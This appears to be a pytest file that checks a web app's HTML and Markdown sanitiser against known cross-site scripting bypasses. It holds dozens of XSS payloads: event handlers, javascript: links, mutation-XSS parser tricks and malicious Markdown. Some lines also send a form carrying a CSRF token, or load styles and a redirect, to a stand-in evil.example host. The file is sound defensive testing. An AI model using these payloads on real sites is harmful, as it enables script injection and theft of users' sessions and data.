"""Known ways past sanitisers: typed as Markdown, as stored HTML, and given to bleach alone."""

import pytest

from app import richtext
from app.richtext.sanitizer import sanitized
from tests.support.allowed_html import assert_allowed, assert_nh3_agrees, words

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0' class=x id=main data-controller=x>x</p>",
    "<form action=//evil.example><input name=csrf_token><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='JAVASCRIPT&#0000058alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://user@evil.example'>x</a>",
    "<a href='https://example.org' target=_top rel=opener ping=//evil.example>x</a>",
    "<a href='https://example.org' onclick=alert(1) xlink:href=javascript:alert(1)>x</a>",
    "<a href=https://example.org><a href=https://evil.example>x</a></a>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<ol start=-1><li>x</ol>",
    "<bdi dir=rtl onclick=alert(1)>x</bdi>",
    "</p></div></main><h1>Not the page</h1>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><html><head><title>x</title></head><body>y</body></html>",
]

# Markup that one parser reads, writes, and reads again as something else.
MUTATIONS = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math></p><style><!--</style><img src/onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;&lt;img onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding=text/html><style><p id="</style><img src onerror=alert(1)>">',
    '<svg><foreignobject><p><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "<template><p></template><img src=x onerror=alert(1)>",
    "<select><option><style></select><img src=x onerror=alert(1)>",
    "<table><td><p><table><caption><a><img src=x onerror=alert(1)>",
    "<plaintext><p>x",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    '<a href="https://example.org/`x`onmouseover=alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p>&#" + "1" * 5000 + ";</p>",
    "<p>&unknown;&#xD800;&#0;&#x110000;</p>",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\tjavascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://example.org/"onclick="alert(1))',
    '[x](https://example.org "\\" onclick=alert(1)")',
    "[x](https://example.org/'><script>alert(1)</script>)",
    'https://example.org/"onmouseover=alert(1)//',
    "https://example.org/<script>alert(1)</script>",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](x)',
    "[![x](https://example.org/a.png)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    '```"><script>alert(1)</script>\nx\n```',
    "``` onclick=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "> </blockquote><script>alert(1)</script>",
    "<div>\n\n**bold**\n\n</div>",
    "<b\n\nonclick=alert(1)>",
    '1" onclick="alert(1). x',
    "999999999. x",
    "\\<script\\>alert(1)\\</script\\>",
    "**<script>**alert(1)**</script>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", SCRIPTS + MUTATIONS + MARKDOWN)
def test_typed_it_is_harmless(text: str) -> None:
    try:
        body = richtext.render(text)
    except richtext.Unacceptable:
        return
    assert_allowed(body.html)
    assert_nh3_agrees(body.html)
    assert richtext.clean_html(body.html) == body.html


@pytest.mark.parametrize("text", SCRIPTS + MUTATIONS)
def test_typed_html_is_shown_as_typed(text: str) -> None:
    body = richtext.render(f"before {text}".replace("\n", " "))
    assert words(body.html).strip() == body.text
    assert "&lt;" in body.html or "&amp;" in body.html


@pytest.mark.parametrize("html", SCRIPTS + MUTATIONS)
def test_stored_it_is_harmless(html: str) -> None:
    try:
        clean = richtext.clean_html(html)
    except richtext.TooComplex:
        return
    assert_allowed(clean)
    assert_nh3_agrees(clean)


@pytest.mark.parametrize("html", [case for case in SCRIPTS + MUTATIONS if "1" * 5000 not in case])
def test_bleach_alone_leaves_nothing(html: str) -> None:
    clean = sanitized(html)
    assert_allowed(clean)
    assert_nh3_agrees(clean)
    assert sanitized(clean) == clean
